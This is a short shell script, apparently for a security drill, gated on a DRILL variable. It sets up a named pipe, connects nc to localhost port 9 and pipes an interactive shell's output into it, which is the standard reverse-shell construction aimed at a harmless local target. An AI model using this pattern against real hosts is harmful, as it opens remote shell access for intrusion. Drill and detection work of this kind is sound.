cd "${DRILL:?this is for a drill alone}" || exit
mkfifo ./f
nc 127.0.0.1 9 <./f &
sh -i <&- >./f 2>&1
wait
